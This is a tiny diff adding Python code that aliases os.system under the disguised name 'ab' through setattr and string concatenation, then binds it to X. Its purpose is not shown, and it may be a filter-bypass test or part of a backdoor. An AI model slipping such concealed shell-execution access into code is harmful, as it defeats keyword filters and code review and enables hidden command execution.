@@ -1,0 +1,3 @@
+import os
+setattr(os,"a"+"b",os.system)
+X=os.ab
